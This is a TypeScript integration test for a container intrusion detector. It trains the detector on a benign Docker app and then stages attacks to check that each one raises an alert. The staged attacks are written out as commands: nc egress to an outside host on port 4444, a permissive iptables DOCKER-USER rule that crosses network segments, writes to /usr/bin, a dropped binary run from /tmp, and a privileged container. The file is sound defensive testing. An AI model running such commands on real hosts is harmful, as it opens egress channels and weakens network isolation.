// The end-to-end scenario of the detectors issue, on the real daemon with the real agent: a small
// app (web on frontend, api on frontend+backend, db on backend) runs a bounded benign loop through
// learning and after it, then one attack at a time, each of which must raise its rule.
import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAgent, type AgentProcess } from '../support/agent-process.ts';
import {
  docker,
  INTERNET_HOST,
  removeContainers,
  removeNetworks,
  runContainer,
  uniqueName,
} from '../support/testenv.ts';
import { waitFor } from '../support/wait.ts';

const run = promisify(execFile);
const LEARN_S = 20;

interface LoggedAlert {
  id: string;
  rule: string;
  alertTime: string;
  lastSeen: string;
  summary: string;
  container: { name: string } | null;
  repeat: boolean;
}

describe('detection scenario: learn a benign app, then catch one attack at a time', () => {
  const frontend = uniqueName('front');
  const backend = uniqueName('back');
  const [web, api, db, priv] = ['web', 'api', 'db', 'priv'].map((n) => uniqueName(`scn-${n}`)) as [
    string,
    string,
    string,
    string,
  ];
  const stateDir = mkdtempSync(path.join(tmpdir(), 'sw-scenario-'));
  const configFile = path.join(stateDir, 'shipwatch.yaml');
  const ruleComment = `shipwatch-test-${web}`;
  let ruleInserted = false;
  let agent: AgentProcess;
  let learnedAt = 0;
  const latencies: Record<string, number> = {};

  const alerts = (): LoggedAlert[] =>
    agent.logs.filter((l) => l.msg === 'alert' && l.repeat !== true).map((l) => l as unknown as LoggedAlert);
  // Repeats of a deduplicated alert count too: "zero alerts" means nothing fired, not nothing new.
  const allAlertLines = (): LoggedAlert[] =>
    agent.logs.filter((l) => l.msg === 'alert').map((l) => l as unknown as LoggedAlert);
  // The benign loop can only cause behavioural alerts; config findings are about how the
  // containers were started and are raised whenever the agent (re)discovers them.
  const behavioural = (a: LoggedAlert) => !['risky_container_config', 'insecure_daemon_config'].includes(a.rule);
  const appNames = () => new Set([web, api, db]);

  async function expectRule(rule: string, container: string, since: number, timeout: number): Promise<LoggedAlert> {
    const alert = await waitFor(
      () =>
        alerts().find((a) => a.rule === rule && a.container?.name === container && Date.parse(a.alertTime) >= since),
      { timeout, interval: 50, what: `${rule} on ${container}` },
    ).catch((error: Error) => {
      const seen = allAlertLines()
        .filter((a) => Date.parse(a.lastSeen) >= since)
        .map((a) => `${a.rule} ${a.container?.name} ${a.summary}`);
      throw new Error(`${error.message}; alerts since: ${JSON.stringify(seen)}`);
    });
    latencies[rule] = Date.parse(alert.alertTime) - since;
    return alert;
  }

  beforeAll(async () => {
    // web and api are HTTP clients built on busybox nc: for them nc is known-good, and a SOC would
    // suppress exactly that (db has no such suppression, so nc in db is still an attack).
    writeFileSync(
      configFile,
      [
        `learn: ${LEARN_S}s`,
        'stats_interval: 1s',
        'suppressions:',
        ...['scn/web', 'scn/api'].map(
          (w) => `  - { workload: ${w}, rule: suspicious_process, match: "network_tool:nc", reason: "HTTP client" }`,
        ),
      ].join('\n'),
    );
    await docker('network', 'create', frontend);
    await docker('network', 'create', backend);
    // db: a web server (no exec per request: busybox httpd forks).
    await runContainer(
      db,
      ['--network', backend, '--network-alias', 'db', '--label', 'shipwatch.workload=scn/db'],
      ['sh', '-c', 'mkdir -p /www && echo ok > /www/index.html && exec httpd -f -p 80 -h /www'],
    );
    // api: serves web, calls db once a second, logs to /var/log (bounded: 400 rounds).
    await docker(
      'create',
      '--pull=never',
      '--name',
      api,
      '--network',
      frontend,
      '--network-alias',
      'api',
      '--label',
      'shipwatch.workload=scn/api',
      'shipwatch-test/busybox:latest',
      'sh',
      '-c',
      'mkdir -p /www && echo ok > /www/index.html && httpd -p 8080 -h /www; i=0; while [ $i -lt 400 ]; do printf "GET / HTTP/1.0\\r\\n\\r\\n" | nc -w 1 db 80 >/dev/null; echo "$i" >> /var/log/api.log; i=$((i+1)); sleep 1; done; sleep 600',
    );
    await docker('network', 'connect', '--alias', 'api', backend, api);
    await docker('start', api);
    // web: calls api once a second, writes to /tmp (bounded: 400 rounds).
    await runContainer(
      web,
      ['--network', frontend, '--label', 'shipwatch.workload=scn/web'],
      [
        'sh',
        '-c',
        'i=0; while [ $i -lt 400 ]; do printf "GET / HTTP/1.0\\r\\n\\r\\n" | nc -w 1 api 8080 >/dev/null; echo hit >> /tmp/web.log; i=$((i+1)); sleep 1; done; sleep 600',
      ],
    );
    agent = await startAgent(['--config', configFile, '--state-dir', stateDir]);
    learnedAt = Date.now() + LEARN_S * 1000;
  }, 60_000);

  afterAll(async () => {
    if (ruleInserted)
      await run('iptables', ['-D', 'DOCKER-USER', '-m', 'comment', '--comment', ruleComment, '-j', 'ACCEPT']);
    await agent?.stop();
    await removeContainers(web, api, db, priv);
    await removeNetworks(frontend, backend);
    console.log(`detection latency per rule (ms): ${JSON.stringify(latencies)}`);
  });

  it('raises no behavioural alert for the benign loop during the 60 s after learning', async () => {
    await waitFor(() => Date.now() > learnedAt + 60_000, {
      timeout: LEARN_S * 1000 + 65_000,
      interval: 1000,
      what: 'learning + 60 s',
    });
    const containers = (await (await fetch(`${agent.baseUrl}/api/containers`)).json()) as
      { name: string; state: string }[] | { containers: { name: string; state: string }[] };
    const list = Array.isArray(containers) ? containers : containers.containers;
    expect(list.filter((c) => appNames().has(c.name)).map((c) => c.state)).toEqual([
      'monitoring',
      'monitoring',
      'monitoring',
    ]);
    const after = allAlertLines().filter(
      (a) => appNames().has(a.container?.name ?? '') && behavioural(a) && Date.parse(a.lastSeen) > learnedAt,
    );
    expect(after.map((a) => `${a.rule}: ${a.summary}`)).toEqual([]);
  }, 150_000);

  it('loads the baselines after a restart and the benign loop still raises nothing', async () => {
    await agent.stop();
    agent = await startAgent(['--config', configFile, '--state-dir', stateDir]);
    const restartedAt = Date.now();
    await waitFor(() => Date.now() > restartedAt + 20_000, {
      timeout: 25_000,
      interval: 1000,
      what: '20 s of the benign loop',
    });
    const after = allAlertLines().filter((a) => appNames().has(a.container?.name ?? '') && behavioural(a));
    expect(after.map((a) => `${a.rule}: ${a.summary}`)).toEqual([]);
  }, 60_000);

  it('raises unexpected_egress when api connects to 203.0.113.10:4444', async () => {
    const at = Date.now();
    await docker('exec', api, 'sh', '-c', `echo x | nc -w 2 ${INTERNET_HOST} 4444 || true`);
    const alert = await expectRule('unexpected_egress', api, at, 2000);
    expect(alert.summary).toContain(`${INTERNET_HOST}:4444`);
  });

  it('raises cross_segment_traffic when web reaches db directly through a permissive DOCKER-USER rule', async () => {
    await run('iptables', ['-I', 'DOCKER-USER', '-m', 'comment', '--comment', ruleComment, '-j', 'ACCEPT']);
    ruleInserted = true;
    const dbIp = (
      await docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${backend}").IPAddress}}`, db)
    ).trim();
    const at = Date.now();
    await docker('exec', web, 'sh', '-c', `printf "GET / HTTP/1.0\\r\\n\\r\\n" | nc -w 2 ${dbIp} 80 || true`);
    // The flow is seen on both bridges by two capture processes; the agent orders their packets
    // by kernel timestamp (collector/packet-merge.ts), so it begins at web, the source.
    const alert = await waitFor(
      () =>
        alerts().find(
          (a) =>
            a.rule === 'cross_segment_traffic' &&
            Date.parse(a.alertTime) >= at &&
            a.container?.name === web &&
            a.summary.includes(db),
        ),
      { timeout: 2000, interval: 50, what: 'cross_segment_traffic from web to db' },
    );
    latencies.cross_segment_traffic = Date.parse(alert.alertTime) - at;
  });

  it('raises suspicious_process when a shell runs nc', async () => {
    const at = Date.now();
    // By path, so busybox sh really executes it (a bare applet name runs in a forked shell, no
    // exec); kept open for 2 s as a real attacker's nc would be, so /proc can still be read.
    await docker('exec', db, 'sh', '-c', 'sleep 2 | /usr/bin/nc 127.0.0.1 80 >/dev/null; true');
    const alert = await waitFor(
      () =>
        alerts().find(
          (a) =>
            a.rule === 'suspicious_process' &&
            a.container?.name === db &&
            Date.parse(a.alertTime) >= at &&
            a.summary.includes('network tool nc'),
        ),
      { timeout: 4000, interval: 50, what: 'suspicious_process for nc in db' },
    );
    // Measured from the start of the 2 s command: nc runs from its first instant.
    latencies.suspicious_process = Date.parse(alert.alertTime) - at;
    expect(latencies.suspicious_process).toBeLessThan(2000);
  });

  it('raises sensitive_file_change when a file is written to /usr/bin', async () => {
    const at = Date.now();
    await docker('exec', db, 'sh', '-c', 'echo evil > /usr/bin/evil');
    const alert = await expectRule('sensitive_file_change', db, at, 2000);
    expect(alert.summary).toContain('/usr/bin/evil');
  });

  it('raises drift_executable when a dropped binary is executed', async () => {
    await docker('exec', db, 'cp', '/bin/busybox', '/tmp/sleep');
    const at = Date.now();
    await docker('exec', db, '/tmp/sleep', '1');
    const alert = await expectRule('drift_executable', db, at, 2000);
    expect(alert.summary).toContain('/tmp/sleep');
  });

  it('raises resource_anomaly when db starts burning CPU', async () => {
    const at = Date.now();
    await docker('exec', '-d', db, 'timeout', '40', 'sh', '-c', 'while :; do :; done');
    await expectRule('resource_anomaly', db, at, 30_000);
  }, 40_000);

  it('raises risky_container_config when a privileged container is created', async () => {
    const at = Date.now();
    await docker('create', '--pull=never', '--privileged', '--name', priv, 'shipwatch-test/busybox:latest', 'true');
    const alert = await expectRule('risky_container_config', priv, at, 2000);
    expect(alert.summary).toMatch(/privileged/);
  });
});
